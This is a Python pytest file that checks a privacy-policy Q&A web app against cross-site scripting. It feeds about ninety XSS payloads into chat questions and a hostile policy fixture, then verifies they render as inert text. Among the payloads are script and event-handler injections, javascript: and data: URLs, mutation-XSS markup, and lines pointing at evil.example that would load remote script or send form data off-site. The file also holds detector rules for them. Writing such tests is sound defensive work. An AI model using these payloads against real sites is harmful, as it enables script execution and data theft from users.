"""Cross-site scripting: every payload below, as a question and inside a hostile policy, stays text.

Two ways in. As a question: typed into the chat box (chat.js inserts the reply), sent to the
page that works without JavaScript (GET /?q=, rendered by the server) and to the widget's panel.
In the policy: a copy written into tmp_path puts every payload in a heading, body text, a raw
HTML line, list items, links, a table, a code block, the front matter and the contact section;
a second app serves it, and its /policy, /contact and / pages and the answers that quote its
sections ("Read more" opened) are loaded.

Each page is checked twice. Through html.parser (fast, no browser): no element, attribute or
URL scheme outside what our own pages use. In Debian's Chromium: no dialog, no page error, no
Content Security Policy violation (the `securitypolicyviolation` listener in
tests/support/browser.py), no unexpected element or handler in the live DOM, `window.__xss`
(which payloads set) unset, and the payload shown as text where the page quotes it. Pages load
with JavaScript on, the no-JS page included, so that anything injected gets its chance to run.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import yaml
from fastapi.testclient import TestClient
from markupsafe import escape

from index.policy import read_policy
from qa.answering.assistant import Assistant
from qa.answering.contact import read_contact_card
from qa.answering.render import render_markdown
from qa.settings import Settings
from tests.support.browser import Tab, ask, bound_socket, origin, serving
from web.app import create_app

# JavaScript that would leave a trace: a payload that runs it sets window.__xss.
J = "window.__xss=1;alert(1)"

PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    f"<script>{J}</script>",
    '<script src="data:text/javascript,alert(1)"></script>',
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    # event handlers on img, svg, body, details and friends
    f"<img src=x onerror={J}>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    f"<svg onload={J}>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>xss</marquee>",
    "<x onclick=alert(1)>click me</x>",
    '<a href="#" onclick="alert(1)">click me</a>',
    # frames, objects, documents inside documents
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # SVG, MathML and mutation XSS (markup a parser re-reads differently)
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'
    "</iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<template><script>alert(1)</script></template>",
    # HTML links to script URLs
    '<a href="javascript:alert(1)">click me</a>',
    '<a href="&#106;avascript:alert(1)">click me</a>',
    '<a href="jav&#x09;ascript:alert(1)">click me</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click me</a>',
    '<a href="vbscript:msgbox(1)">click me</a>',
    # Markdown links, images and autolinks
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[click me](javascript&#58;alert(1))",
    "[click me](<javascript:alert(1)>)",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click me](vbscript:msgbox(1))",
    "[click me](data:image/png;base64,iVBORw0KGgo=)",
    "[click me](java\u200bscript:alert(1))",
    '[click me](https://example.org/"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://example.org/)",
    '![x](x" onerror="alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover="alert(1)">',
    "**<script>alert(1)</script>**",
    "`<script>alert(1)</script>`",
    # breaking out of attributes, strings, templates and elements
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    '"-alert(1)-"',
    "';alert(1);//",
    "${alert(1)}",
    "`;alert(1);`",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}",
    # CSS
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="background-image:url(javascript:alert(1))">css</div>',
    '<div style="width:expression(alert(1))">css</div>',
    '<link rel=stylesheet href="data:text/css,body{display:none}">',
    # navigation and forms
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example/"><input name=q value=steal><button>Go</button></form>',
    "<button formaction=javascript:alert(1)>go</button>",
    # encodings, look-alikes and invisible characters
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]


PAYLOAD_IDS = [f"p{n:02d}" for n in range(1, len(PAYLOADS) + 1)]


# -- what our own pages may contain -------------------------------------------------------


def _names(text: str) -> frozenset[str]:
    return frozenset(text.split())


# Every element our templates and the Markdown renderer produce (no img, svg, iframe, style).
SAFE_TAGS = _names(
    "html head meta link title script body a header nav main h1 h2 h3 h4 h5 h6 p span div ul "
    "ol li section article details summary form label input button textarea select option "
    "optgroup mark time address dl dt dd strong em b i small code pre blockquote hr br table "
    "caption thead tbody tr th td fieldset legend abbr sub sup"
)
URL_ATTRIBUTES = _names(
    "href src action formaction xlink:href data poster background srcset ping cite codebase "
    "manifest longdesc lowsrc dynsrc"
)
# Attributes that make the browser fetch or submit: only to our own origin.
SAME_ORIGIN_ATTRIBUTES = frozenset(URL_ATTRIBUTES - {"href", "cite", "longdesc"})
SAFE_SCHEMES = frozenset({"http", "https", "mailto", "tel"})
SAFE_META = frozenset({"charset", "name", "content"})
SAFE_LINKS = frozenset({"icon", "stylesheet"})
FORM_ACTIONS = frozenset({"/", "/widget", "/escalations/new"})
SCRIPTS = {
    "/": ["/static/chat.js"],
    "/widget": ["/static/chat.js", "/static/panel.js"],
    "/policy": [],
    "/contact": [],
}
_SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")


def url_scheme(value: str) -> str:
    """The scheme a browser reads in a URL attribute: controls and spaces trimmed, tabs and
    newlines dropped (WHATWG URL parsing), lower-cased; "" for a relative URL."""
    cleaned = re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(0x21)))))
    found = _SCHEME.match(cleaned)
    return found.group(1).lower() if found else ""


def is_own_path(value: str) -> bool:
    """A URL that stays on this origin: no scheme and no network path (//host or /\\host)."""
    cleaned = re.sub(r"[\t\n\r]", "", value.strip())
    return url_scheme(cleaned) == "" and not re.match(r"[/\\]{2}", cleaned)


class Inspector(HTMLParser):
    """Reads a page as a browser would tokenise it and notes whatever our pages never hold."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.scripts: list[str | None] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Check one element and its attributes."""
        where = f"<{tag}>"
        if tag not in SAFE_TAGS:
            self.found.append(f"element {where}")
        values = {name: value or "" for name, value in attrs}
        for name, value in values.items():
            if name.startswith("on"):
                self.found.append(f"handler {name} on {where}")
            elif name in ("style", "srcdoc", "formaction"):
                self.found.append(f"{name} on {where}")
            if name in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                if scheme and scheme not in SAFE_SCHEMES:
                    self.found.append(f"{scheme}: URL in {name} of {where}")
                if (name in SAME_ORIGIN_ATTRIBUTES or tag == "link") and not is_own_path(value):
                    self.found.append(f"{name} of {where} leaves the site: {value!r}")
        if tag == "meta" and set(values) - SAFE_META:
            self.found.append(f"meta with {sorted(set(values) - SAFE_META)}")
        if tag == "link" and values.get("rel") not in SAFE_LINKS:
            self.found.append(f"link rel={values.get('rel')!r}")
        if tag == "form" and values.get("action") not in FORM_ACTIONS:
            self.found.append(f"form action={values.get('action')!r}")
        if tag == "script":
            self.scripts.append(values.get("src"))
            self._in_script = True

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """A self-closed element is checked like any other."""
        self.handle_starttag(tag, attrs)
        self._in_script = False

    def handle_endtag(self, tag: str) -> None:
        """The end of an inline script's text."""
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        """Text inside a script element is inline script."""
        if self._in_script and data.strip():
            self.found.append(f"inline script {data.strip()[:40]!r}")

    def handle_comment(self, data: str) -> None:
        """Our templates send no comments: one here came from somebody's text."""
        self.found.append(f"comment {data[:40]!r}")

    def handle_pi(self, data: str) -> None:
        """Nor processing instructions."""
        self.found.append(f"processing instruction {data[:40]!r}")

    def unknown_decl(self, data: str) -> None:
        """Nor CDATA sections."""
        self.found.append(f"declaration {data[:40]!r}")


def inspect_html(html: str) -> Inspector:
    """Parse `html` and return what the inspector found (and the scripts it loads)."""
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def dangers(html: str, scripts: list[str] | None = None) -> list[str]:
    """What in `html` could run script or leave the site; with `scripts`, also any script
    element other than exactly those."""
    inspector = inspect_html(html)
    found = list(inspector.found)
    if scripts is not None and inspector.scripts != scripts:
        found.append(f"scripts {inspector.scripts} instead of {scripts}")
    return found


# -- the hostile policy -------------------------------------------------------------------


def marker(n: int) -> str:
    """A word found only in clause `n` of the hostile policy, to ask for that clause by."""
    return f"xss{n:02d}"


def question_for(n: int) -> str:
    """A question the hostile policy answers with clause `n`."""
    return f"What does clause {marker(n)} say?"


TITLE = "Hostile policy " + " ".join(PAYLOADS)
LAST_UPDATED = " ".join(PAYLOADS)
CONTACT = {
    "organisation": "<script>alert('organisation')</script> Ltd",
    "address": "\"><img src=x onerror=alert('address')>",
    "phone": '"><svg onload=alert(1)> +44 20 7946 0000',
    "website": "javascript:alert(document.domain)",
}


def hostile_policy() -> str:
    """A policy that holds every payload in every place a policy can hold text."""
    front = yaml.safe_dump({"title": TITLE, "last_updated": LAST_UPDATED}, width=10**6)
    parts = [
        f"---\n{front}---\n",
        "This copy of a policy is a test fixture: each clause below holds one XSS payload.\n",
    ]
    for n, payload in enumerate(PAYLOADS, 1):
        m = marker(n)
        parts.append(
            f"## {m} {payload}\n\n"
            f"Clause {m} says {payload} and nothing more.\n\n"
            f"{payload}\n\n"  # alone on its line: where raw HTML blocks start
            f"- {m} item: {payload}\n"
            f"- [{payload}](https://example.org/{m}) and [{m} link]({payload})\n"
            f"- [{m} reference][{m}]\n\n"
            f"[{m}]: {payload}\n\n"
            f"~~~~\n{payload}\n~~~~\n"
        )
    rows = "".join(f"| {n} | {payload} |\n" for n, payload in enumerate(PAYLOADS, 1))
    parts.append(f"## Tabled clauses\n\n| Clause | Text |\n|:--|:-:|\n{rows}")
    parts.append(
        "## Contact Us\n\n"
        f"{CONTACT['organisation']}\n\n{CONTACT['address']}\n\n"
        "Email: privacy@xss.example\n\n"
        f"Phone: {CONTACT['phone']}\n\n"
        f"Website: {CONTACT['website']}\n"
    )
    return "\n".join(parts)


def heading_of(n: int) -> str:
    """The heading clause `n` has on the pages (its line, less the ## marker, and less the
    `**` of a payload in bold: a heading's emphasis is not part of its words)."""
    payload = PAYLOADS[n - 1]
    if payload.startswith("**") and payload.endswith("**"):
        payload = payload[2:-2]
    return f"{marker(n)} {payload}"


@pytest.fixture(scope="module")
def hostile_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile policy, written into a temporary folder."""
    path = tmp_path_factory.mktemp("hostile") / "hostile-policy.md"
    path.write_text(hostile_policy(), encoding="utf-8")
    return path


def settings_for(policy: Path, data_dir: Path, **more: str) -> Settings:
    """Settings as an operator would give them, PRIVACY_QA_POLICY naming the policy."""
    environ = {
        "PRIVACY_QA_POLICY": str(policy),
        "PRIVACY_QA_DATA_DIR": str(data_dir),
        "PRIVACY_QA_RATE_LIMITS": "off",  # hundreds of requests from one client, on purpose
        **more,
    }
    return Settings.from_env(environ)


# -- fast checks, through html.parser -----------------------------------------------------


def test_there_are_at_least_fifty_distinct_one_line_payloads() -> None:
    assert len(PAYLOADS) >= 50
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    # One line each, no | and no trailing #: each fits a heading, a list item and a table cell.
    assert not [p for p in PAYLOADS if "\n" in p or "|" in p or p != p.strip("# ")]


@pytest.mark.parametrize(
    ("html", "finding"),
    [
        ('<p><img src="x" onerror="alert(1)"></p>', "element <img>"),
        ('<a href="/" onclick="alert(1)">x</a>', "handler onclick"),
        ('<a href=" jav&#x09;ascript:alert(1)">x</a>', "javascript: URL"),
        ('<a href="DATA:text/html,x">x</a>', "data: URL"),
        ('<form action="//evil.example/"></form>', "leaves the site"),
        ('<form action="/\\evil.example/"></form>', "leaves the site"),
        ('<link rel="stylesheet" href="https://evil.example/x.css">', "leaves the site"),
        ('<meta http-equiv="refresh" content="0;url=/x">', "meta with ['http-equiv']"),
        ("<script>alert(1)</script>", "inline script"),
        ('<p style="color:red">x</p>', "style on <p>"),
        ("<!--x-->", "comment"),
        ("<base href=https://evil.example/>", "element <base>"),
    ],
)
def test_the_inspector_finds_what_it_looks_for(html: str, finding: str) -> None:
    # The checks below pass only if nothing is found; here is proof that they can fail.
    assert any(finding in f for f in dangers(html)), dangers(html)


def markdown_contexts(payload: str) -> dict[str, str]:
    """The payload in each place Markdown can put text, a link or an image."""
    return {
        "paragraph": payload,
        "inline": f"Before {payload} after.",
        "list item": f"- {payload}",
        "quote": f"> {payload}",
        "heading": f"#### {payload}",
        "emphasis": f"*{payload}*",
        "link text": f"[{payload}](https://example.org/)",
        "link destination": f"[x]({payload})",
        "link destination in brackets": f"[x](<{payload}>)",
        "link title": f'[x](https://example.org/ "{payload}")',
        "image": f"![{payload}]({payload})",
        "reference": f"[x][r]\n\n[r]: {payload}",
        "autolink": f"<{payload}>",
        "table cell": f"| a |\n|:-:|\n| {payload} |",
        "code block": f"~~~\n{payload}\n~~~",
    }


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
def test_render_markdown_keeps_every_payload_inert(payload: str) -> None:
    for place, markdown in markdown_contexts(payload).items():
        html = render_markdown(markdown)
        assert dangers(html, scripts=[]) == [], f"{place}: {html}"


def test_an_aligned_table_uses_classes_not_inline_styles() -> None:
    # The CSP has no 'unsafe-inline' for styles: a style attribute would be refused (and
    # logged as a violation), so alignment comes from site.css classes instead.
    html = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert "style=" not in html
    assert '<th class="align-left">a</th>' in html
    assert '<td class="align-center">2</td>' in html
    assert '<td class="align-right">3</td>' in html
    css = (Path(__file__).parents[2] / "web" / "static" / "site.css").read_text()
    for name in ("left", "center", "right"):
        assert f".align-{name}" in css


def test_an_image_in_the_policy_is_shown_as_its_alt_text() -> None:
    html = render_markdown("Our ![*company* logo](https://tracker.example/pixel.png) here.")
    assert html == "<p>Our company logo here.</p>\n"


def test_contact_card_takes_only_a_web_address_as_the_website() -> None:
    def website(value: str) -> str | None:
        policy = read_policy(f"## Contact Us\n\nExample Ltd\n\nWebsite: {value}\n", "p")
        return read_contact_card(policy).website

    assert website("javascript:alert(document.domain)") is None
    assert website("data:text/html,<script>alert(1)</script>") is None
    assert website(" JaVaScRiPt:alert(1)") is None
    assert website("https://example.org/privacy") == "https://example.org/privacy"
    assert website("www.example.org") == "https://www.example.org"


@pytest.fixture(scope="module")
def hostile_client(
    hostile_file: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[TestClient]:
    """The real app in-process over the hostile policy."""
    settings = settings_for(hostile_file, tmp_path_factory.mktemp("hostile-data"))
    with TestClient(create_app(settings)) as client:
        yield client


def page_dangers(client: TestClient, url: str) -> list[str]:
    """What the page at `url` holds that could run script or leave the site."""
    response = client.get(url)
    assert response.status_code == 200, url
    return dangers(response.text, SCRIPTS[url.split("?")[0]])


def test_hostile_policy_pages_hold_no_markup_from_the_policy(hostile_client: TestClient) -> None:
    for url in ("/policy", "/contact", "/"):
        assert page_dangers(hostile_client, url) == [], url
    policy = hostile_client.get("/api/policy").json()
    assert policy["title"] == TITLE
    for n in range(1, len(PAYLOADS) + 1):
        url = f"/?q={quote(question_for(n))}"
        assert page_dangers(hostile_client, url) == [], url
        answer = hostile_client.get("/api/ask", params={"q": question_for(n)}).json()
        assert answer["sections"][0]["heading"] == heading_of(n)
        for section in answer["sections"]:
            assert dangers(section["html"], scripts=[]) == [], section["html"]
            assert dangers(section["snippet_html"], scripts=[]) == [], section["snippet_html"]


def test_contact_page_of_the_hostile_policy_links_nowhere_unsafe(
    hostile_client: TestClient,
) -> None:
    card = hostile_client.get("/api/contact").json()
    assert card["organisation"] == CONTACT["organisation"]
    assert card["address"] == [CONTACT["address"]]
    assert card["website"] is None  # "javascript:…" is not a web address
    page = hostile_client.get("/contact").text
    assert 'href="javascript:' not in page.lower()


@pytest.fixture(scope="module")
def plain_client(
    assistant: Assistant, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[TestClient]:
    """The real app in-process over the bundled policy, without rate limits."""
    policy = Path(assistant.library.default.source)
    settings = settings_for(policy, tmp_path_factory.mktemp("plain-data"))
    with TestClient(create_app(settings, assistant=assistant)) as client:
        yield client


@pytest.mark.parametrize("path", ["/", "/widget"])
def test_question_pages_hold_every_payload_escaped(plain_client: TestClient, path: str) -> None:
    for payload in PAYLOADS:
        url = f"{path}?q={quote(payload)}&title={quote(payload)}"
        response = plain_client.get(url)
        assert response.status_code == 200, payload
        assert dangers(response.text, SCRIPTS[path]) == [], payload
        assert f'<span class="visually-hidden">You asked: </span>{escape(payload)}</p>' in (
            response.text
        )


def test_the_status_page_and_the_requesters_forms_hold_every_payload_escaped(
    assistant: Assistant, tmp_path: Path
) -> None:
    key = "xss-support-key-0123456789"
    policy = Path(assistant.library.default.source)
    settings = settings_for(
        policy,
        tmp_path,
        PRIVACY_QA_PRIVACY_EMAIL="privacy@example.com",
        PRIVACY_QA_API_KEYS=key,
    )
    auth = {"Authorization": f"Bearer {key}"}
    with TestClient(create_app(settings, assistant=assistant)) as client:
        for start in range(0, len(PAYLOADS), 10):
            words = " ".join(PAYLOADS[start : start + 10])
            body = {"right": "opt_out", "jurisdiction": "ccpa", "name": "Ana Lima"}
            body.update(email="ana@example.com", details=words, question=words[:500])
            response = client.post("/api/rights-requests", json=body)
            assert response.status_code == 201, response.text
            made = response.json()
            status_path = made["status_url"].removeprefix("http://testserver")
            # While it is open, the page holds the withdrawal form; a payload as the status
            # token on its way back lands in a link, quoted.
            page = client.get(status_path).text
            token = re.search(r'name="token" value="([^"]+)"', page)
            assert token is not None
            for payload in PAYLOADS[start : start + 10]:
                refused = client.post(
                    f"/rights-requests/{made['reference']}/withdraw",
                    data={"token": token.group(1), "status_token": payload},
                )
                assert refused.status_code == 422, payload
                assert dangers(refused.text) == [], payload
            # The team's words (a reason, a reply) are shown as text.
            change = {"status": "denied", "reason": words[:2000], "reply": words}
            path = f"/api/support/rights-requests/{made['reference']}"
            assert client.patch(path, json=change, headers=auth).status_code == 200
            shown = client.get(status_path)
            assert shown.status_code == 200
            assert dangers(shown.text) == [], words  # closed: no form left on it either
            assert f'<dd class="team-message">{escape(words)}</dd>' in shown.text
        for payload in PAYLOADS:
            verify = client.get("/rights-requests/verify", params={"token": payload})
            assert verify.status_code == 404 and dangers(verify.text) == [], payload


# -- in the browser -----------------------------------------------------------------------

# What the live DOM holds, checked by the browser itself after the page's scripts ran. The
# same rules as Inspector, plus what only a browser knows: resolved URLs, the base URI, and
# the traces a payload would leave (window.__xss, CSP violations caught by the listener).
# It also returns what the page shows of the last question, so one call checks a page.
SCAN = """([safeTags, urlAttributes, sameOrigin, safeSchemes, formActions]) => {
  const found = [];
  const schemeOf = (value) => {
    const cleaned = value.replace(/^[\\u0000-\\u0020]+|[\\u0000-\\u0020]+$/g, "")
      .replace(/[\\t\\n\\r]/g, "");
    const m = /^([a-zA-Z][a-zA-Z0-9+.-]*):/.exec(cleaned);
    return m ? m[1].toLowerCase() : "";
  };
  const visit = (root) => {
    for (const el of root.querySelectorAll("*")) {
      const tag = el.localName;
      if (!safeTags.includes(tag)) found.push(`element <${tag}>`);
      for (const { name, value } of el.attributes) {
        if (name.startsWith("on")) found.push(`handler ${name} on <${tag}>`);
        if (name === "srcdoc" || name === "formaction") found.push(`${name} on <${tag}>`);
        // panel.js sets the widget's colour as a custom property on <html>.
        if (name === "style" && el !== document.documentElement) found.push(`style on <${tag}>`);
        if (urlAttributes.includes(name)) {
          const scheme = schemeOf(value);
          if (scheme && !safeSchemes.includes(scheme)) found.push(`${scheme}: URL in <${tag}>`);
          if ((sameOrigin.includes(name) || tag === "link")
              && new URL(value, location.href).origin !== location.origin) {
            found.push(`${name} of <${tag}> leaves the site`);
          }
        }
      }
      if (tag === "meta" && el.hasAttribute("http-equiv")) found.push("meta http-equiv");
      if (tag === "form" && !formActions.includes(el.getAttribute("action"))) {
        found.push(`form action=${el.getAttribute("action")}`);
      }
      if (tag === "script" && el.textContent.trim()) found.push("inline script");
      if (el.shadowRoot) visit(el.shadowRoot);
      if (tag === "template") visit(el.content);
    }
  };
  visit(document);
  if (document.baseURI !== location.href) found.push(`base URI ${document.baseURI}`);
  const turns = [...document.querySelectorAll(".log .turn")];
  // The escalation form of the last turn, if it offers one (small talk and off-topic do not).
  const escalation = turns.length
    ? turns.at(-1).querySelector("form[data-escalate] textarea")
    : [...document.querySelectorAll("form[data-escalate] textarea")].pop();
  return {
    found,
    scripts: [...document.scripts].map((s) => s.getAttribute("src")),
    flag: window.__xss === undefined ? null : String(window.__xss),
    csp: window.__csp,
    path: location.pathname,
    asked: turns.map((t) => t.querySelector(".you").textContent.replace(/^You asked: /, "")),
    answers: turns.map((t) => t.querySelector("article.answer h2 a")?.textContent ?? null),
    escalation: escalation ? escalation.value : null,
    title: document.querySelector("h1")?.textContent ?? null,
    box: document.querySelector("input[name=q]")?.value ?? null,
  };
}"""
SCAN_ARGS = [
    sorted(SAFE_TAGS),
    sorted(URL_ATTRIBUTES),
    sorted(SAME_ORIGIN_ATTRIBUTES),
    sorted(SAFE_SCHEMES),
    sorted(FORM_ACTIONS),
]


def scan(tab: Tab, path: str, what: str) -> dict[str, Any]:
    """Check that the page in `tab` shows no sign of a payload having got in or run; return
    what it shows of the questions and answers."""
    report: dict[str, Any] = tab.page.evaluate(SCAN, SCAN_ARGS)
    assert report["found"] == [], f"{what}: {report['found']}"
    assert report["scripts"] == SCRIPTS[path], what
    assert report["flag"] is None, f"{what}: a payload ran"
    assert report["csp"] == [], f"{what}: CSP violations {report['csp']}"
    assert report["path"] == path, f"{what}: navigated away"
    assert tab.dialogs == [], f"{what}: a dialog opened"
    assert tab.errors == [], f"{what}: a script failed"
    assert tab.unexpected_console() == [], f"{what}: the console logged an error"
    return report


@dataclass
class Sites:
    """The real app over the bundled policy, and a second over the hostile one."""

    plain: str
    hostile: str


@pytest.fixture(scope="module")
def sites(
    assistant: Assistant, hostile_file: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Sites]:
    """Both apps under uvicorn on free loopback ports."""
    plain_sock, hostile_sock = bound_socket(), bound_socket()
    plain = create_app(
        settings_for(
            Path(assistant.library.default.source),
            tmp_path_factory.mktemp("xss-plain"),
            PRIVACY_QA_PUBLIC_URL=origin(plain_sock),
        ),
        assistant=assistant,
    )
    hostile = create_app(
        settings_for(
            hostile_file,
            tmp_path_factory.mktemp("xss-hostile"),
            PRIVACY_QA_PUBLIC_URL=origin(hostile_sock),
        )
    )
    with serving(plain, plain_sock), serving(hostile, hostile_sock):
        yield Sites(origin(plain_sock), origin(hostile_sock))


BATCH = 15  # questions asked per page load in the chat


def batches(items: list[Any], size: int = BATCH) -> Iterator[list[Any]]:
    """`items` in runs of `size`."""
    for start in range(0, len(items), size):
        yield items[start : start + size]


def load(tab: Tab, url: str) -> None:
    """Open `url`. The page's own (module) scripts have run by DOMContentLoaded; not waiting
    for images and styles saves a third of each load, and an element that would fetch one is
    found by the scan anyway (and a late CSP report by open_tab's console check)."""
    tab.page.goto(url, wait_until="domcontentloaded")


def open_every_read_more(page: Any, *, click_first: bool = False) -> int:
    """Open each "Read more" on the page (with `click_first`, the first by a click, as a
    visitor would; clicking them all would double the tests' time); how many are open."""
    closed = page.locator("details:not([open]) > summary")
    if click_first and closed.count():
        closed.first.click()
    opened: int = page.evaluate(
        """() => { const closed = document.querySelectorAll("details:not([open])");
                   closed.forEach((d) => { d.open = true; });
                   return document.querySelectorAll("details[open]").length; }"""
    )
    return opened


@pytest.mark.browser
@pytest.mark.parametrize(
    ("path", "payloads"), [("/", PAYLOADS), ("/widget", PAYLOADS[:BATCH])], ids=["page", "widget"]
)
def test_payload_questions_typed_into_the_chat_stay_text(
    sites: Sites, open_tab: Callable[..., Tab], path: str, payloads: list[str]
) -> None:
    # The widget's panel runs the same chat.js as the page: one batch there is enough.
    tab = open_tab()
    for batch in batches(payloads):
        load(tab, sites.plain + path)
        for payload in batch:
            ask(tab.page, payload)
        open_every_read_more(tab.page, click_first=True)
        report = scan(tab, path, f"chat at {path}, payloads {batch[0]!r} to {batch[-1]!r}")
        assert report["asked"] == batch
        assert report["escalation"] in (None, batch[-1])


@pytest.mark.browser
@pytest.mark.parametrize("path", ["/", "/widget"])
def test_payload_questions_on_the_server_rendered_page_stay_text(
    sites: Sites, open_tab: Callable[..., Tab], path: str
) -> None:
    tab = open_tab()
    for payload in PAYLOADS:
        load(tab, f"{sites.plain}{path}?q={quote(payload)}&title={quote(payload)}")
        report = scan(tab, path, f"{path}?q={payload!r}")
        assert report["asked"] == [payload]
        assert report["escalation"] in (None, payload)  # offered when the policy has no answer
        assert report["box"] == ""
        if path == "/widget":  # the host page's title, trimmed to 60 characters, as text
            assert report["title"] == " ".join(payload.split())[:60]


@pytest.mark.browser
def test_hostile_policy_pages_show_the_payloads_as_text(
    sites: Sites, open_tab: Callable[..., Tab]
) -> None:
    tab = open_tab()
    page = tab.page
    page.goto(sites.hostile + "/policy")
    report = scan(tab, "/policy", "/policy of the hostile policy")
    assert report["title"] == TITLE
    assert page.locator(".updated time").text_content() == LAST_UPDATED
    shown = page.evaluate(
        """() => ({
          contents: [...document.querySelectorAll("nav.toc a")].map((a) => a.textContent),
          headings: [...document.querySelectorAll("section h2 a.anchor")]
            .map((a) => a.textContent),
          code: [...document.querySelectorAll("section pre code")].map((c) => c.textContent),
          cells: document.querySelectorAll("section table td").length,
        })"""
    )
    headings = [heading_of(n) for n in range(1, len(PAYLOADS) + 1)]
    assert shown["contents"] == [*headings, "Tabled clauses", "Contact Us"]
    assert shown["headings"] == [*headings, "Tabled clauses", "Contact Us"]
    assert shown["code"] == [payload + "\n" for payload in PAYLOADS]
    assert shown["cells"] == 2 * len(PAYLOADS)

    page.goto(sites.hostile + "/contact")
    scan(tab, "/contact", "/contact of the hostile policy")
    card = page.locator("#contact-card")
    assert card.locator(".org").text_content() == CONTACT["organisation"]
    assert card.locator("address").text_content() == CONTACT["address"]
    assert CONTACT["phone"] in card.inner_text()
    assert "Website" not in card.inner_text()  # "javascript:…" is no web address

    page.goto(sites.hostile + "/")
    scan(tab, "/", "/ of the hostile policy")
    assert LAST_UPDATED in page.locator(".lede").text_content()


@pytest.mark.browser
def test_chat_answers_quoting_hostile_sections_show_them_as_text(
    sites: Sites, open_tab: Callable[..., Tab]
) -> None:
    tab = open_tab()
    for batch in batches(list(range(1, len(PAYLOADS) + 1))):
        load(tab, sites.hostile + "/")
        for n in batch:
            ask(tab.page, question_for(n))
        assert open_every_read_more(tab.page, click_first=True) >= len(batch)
        report = scan(tab, "/", f"chat answers quoting clauses {batch[0]} to {batch[-1]}")
        assert report["answers"] == [heading_of(n) for n in batch]


@pytest.mark.browser
def test_server_rendered_answers_quoting_hostile_sections_show_them_as_text(
    sites: Sites, open_tab: Callable[..., Tab]
) -> None:
    tab = open_tab()
    for n in range(1, len(PAYLOADS) + 1):
        load(tab, f"{sites.hostile}/?q={quote(question_for(n))}")
        assert open_every_read_more(tab.page) >= 1
        report = scan(tab, "/", f"/?q= quoting clause {n}")
        assert report["answers"] == [heading_of(n)]


@pytest.mark.browser
def test_the_browser_checks_catch_an_injection(sites: Sites, open_tab: Callable[..., Tab]) -> None:
    # Proof that the checks above can fail: markup put in by script (as a hole in our
    # escaping would) is found by the scan, and its handler is refused by the CSP and reported.
    tab = open_tab()
    tab.expected.append("Content Security|CSP violation|Refused to|404")
    page = tab.page
